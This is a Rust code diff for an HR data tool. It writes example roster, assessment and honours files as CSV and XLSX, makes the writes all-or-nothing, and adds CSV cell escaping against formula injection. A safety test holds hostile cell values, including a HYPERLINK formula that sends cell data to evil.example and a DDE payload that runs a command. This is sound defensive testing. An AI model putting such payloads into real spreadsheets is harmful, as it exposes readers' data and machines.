@@ -15,6 +15,7 @@
 //! assert_eq!((titles("社会工作师"), titles("助理社会工作师")), (52, 97));
 //! ```
 
+use crate::hrfile::output::CommitSet;
 use crate::period::{YearMonth, parse_date};
 use crate::policy::PolicySet;
 use crate::rules::quota;
@@ -364,14 +365,22 @@ fn honour_rows(d: &District) -> Vec<[String; 4]> {
         .collect()
 }
 
-fn write_csv<const N: usize>(path: &Path, head: [&str; N], rows: &[[String; N]]) -> io::Result<()> {
-    crate::hrfile::write::write_atomic(path, |out| {
+fn write_csv<const N: usize>(
+    set: &mut CommitSet,
+    path: &Path,
+    head: [&str; N],
+    rows: &[[String; N]],
+) -> io::Result<()> {
+    set.add(path, |out| {
         // A BOM, as Excel's "CSV UTF-8" writes it, so Excel shows the Chinese.
         io::Write::write_all(out, b"\xEF\xBB\xBF")?;
         let mut w = csv::Writer::from_writer(out);
         w.write_record(head)?;
         for r in rows {
-            w.write_record(r)?;
+            w.write_record(
+                r.iter()
+                    .map(|c| crate::hrfile::output::csv_text(c).into_owned()),
+            )?;
         }
         w.flush()?;
         Ok(())
@@ -379,6 +388,7 @@ fn write_csv<const N: usize>(path: &Path, head: [&str; N], rows: &[[String; N]])
 }
 
 fn write_xlsx<const N: usize>(
+    set: &mut CommitSet,
     path: &Path,
     sheet: &str,
     head: [&str; N],
@@ -425,13 +435,16 @@ fn write_xlsx<const N: usize>(
     };
     let bytes =
         build().map_err(|e| io::Error::other(format!("cannot build {}: {e}", path.display())))?;
-    crate::hrfile::write::write_atomic(path, |out| io::Write::write_all(out, &bytes))
+    set.add(path, |out| io::Write::write_all(out, &bytes))
 }
 
 /// Writes the example district into `dir` as CSV (UTF-8 with BOM, Chinese
 /// headers) and XLSX (dates as Excel date cells); returns the files written.
+/// All of them or none: one [`CommitSet`].
 pub fn write(dir: &Path) -> io::Result<Vec<PathBuf>> {
     std::fs::create_dir_all(dir)?;
+    let mut set = CommitSet::new(None);
+    let set = &mut set;
     let d = district();
     let at = |n: &str| dir.join(n);
     let roster = roster_rows(&d);
@@ -439,24 +452,31 @@ pub fn write(dir: &Path) -> io::Result<Vec<PathBuf>> {
     let honours = honour_rows(&d);
     let a_head = ["工号", "考核期间", "等次"];
     let h_head = ["工号", "荣誉级别", "授予日期", "事迹"];
-    write_csv(&at("roster.csv"), ROSTER_HEAD, &roster)?;
-    write_csv(&at("assessments.csv"), a_head, &assess)?;
-    write_csv(&at("honours.csv"), h_head, &honours)?;
+    write_csv(set, &at("roster.csv"), ROSTER_HEAD, &roster)?;
+    write_csv(set, &at("assessments.csv"), a_head, &assess)?;
+    write_csv(set, &at("honours.csv"), h_head, &honours)?;
     let scores: Vec<[String; 3]> = d
         .scores
         .iter()
         .map(|(a, b, c)| [a.clone(), b.clone(), c.clone()])
         .collect();
-    write_csv(&at("scores-2026-11.csv"), ["工号", "社区", "分数"], &scores)?;
+    write_csv(
+        set,
+        &at("scores-2026-11.csv"),
+        ["工号", "社区", "分数"],
+        &scores,
+    )?;
     write_xlsx(
+        set,
         &at("roster.xlsx"),
         "花名册",
         ROSTER_HEAD,
         &roster,
         &[5, 6, 7],
     )?;
-    write_xlsx(&at("assessments.xlsx"), "考核", a_head, &assess, &[])?;
-    write_xlsx(&at("honours.xlsx"), "荣誉", h_head, &honours, &[2])?;
+    write_xlsx(set, &at("assessments.xlsx"), "考核", a_head, &assess, &[])?;
+    write_xlsx(set, &at("honours.xlsx"), "荣誉", h_head, &honours, &[2])?;
+    std::mem::take(set).commit()?;
     Ok([
         "roster.csv",
         "assessments.csv",
@@ -510,5 +530,34 @@ mod tests {
         );
         assert_eq!(run.quota.len(), 69);
         assert!(run.quota.iter().all(|p| p.violations().is_empty()));
+    }
+}
+
+#[cfg(test)]
+mod safety_tests {
+    #[test]
+    fn example_csv_cells_are_escaped() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join("x.csv");
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string(),
+            "=cmd|' /C calc'!A0".to_string(),
+            "\tX".to_string(),
+        ];
+        let mut set = crate::hrfile::output::CommitSet::new(None);
+        super::write_csv(
+            &mut set,
+            &p,
+            ["a", "b", "c"],
+            std::slice::from_ref(&hostile),
+        )
+        .unwrap();
+        set.commit().unwrap();
+        let bytes = std::fs::read(&p).unwrap();
+        let mut r = csv::Reader::from_reader(&bytes[3..]);
+        let rec = r.records().next().unwrap().unwrap();
+        for (got, h) in rec.iter().zip(&hostile) {
+            assert_eq!(got, format!("'{h}"));
+        }
     }
 }
